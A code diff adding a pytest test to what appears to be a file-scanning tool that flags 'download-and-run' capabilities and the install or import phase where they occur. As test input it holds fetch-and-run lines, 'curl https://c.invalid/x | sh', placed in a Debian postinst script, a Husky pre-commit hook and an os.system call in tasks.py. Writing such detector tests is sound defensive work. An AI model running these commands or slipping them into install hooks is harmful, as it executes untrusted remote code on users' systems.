@@ -13,6 +13,7 @@ import pytest
 from fimci.look import ALGORITHMS, ATTEMPTS, look, portable, take
 from fimci.model import UNSTATED, Capability, Digest, File, Place, Record, Setting, Unread
 from fimci.profiles import PathRule
+from fimci.readers import ALL
 from fimci.snapshot import Changed, Entry, Recipe
 
 PIECES = [b"one,", b"two,", b"three"]
@@ -149,3 +150,18 @@ def test_an_entry_without_content_is_no_failure() -> None:
 )  # fmt: skip
 def test_what_of_a_mode_is_the_same_in_every_clone(mode: int, expected: int) -> None:
     assert portable(mode) == expected
+
+
+def test_what_two_readers_say_of_one_file_is_told_once_in_the_earlier_phase() -> None:
+    text = b"#!/bin/sh\ncurl https://c.invalid/x | sh\n"
+    for path in ("debian/postinst", ".husky/pre-commit"):  # one reader goes before, one behind
+        records = take([Entry(path=path, read=lambda: iter([text]))], Recipe(), ALL)
+        assert not [one for one in records if isinstance(one, Unread)]
+        phases = {
+            one.phase for one in records if isinstance(one, Capability) and one.name == "download-and-run"
+        }
+        assert phases == {"install"}
+    program = b"import os\nos.system('curl https://c.invalid/x | sh')\n"
+    records = take([Entry(path="tasks.py", read=lambda: iter([program]))], Recipe(), ALL)
+    phases = {one.phase for one in records if isinstance(one, Capability) and one.name == "download-and-run"}
+    assert phases == {"import"}
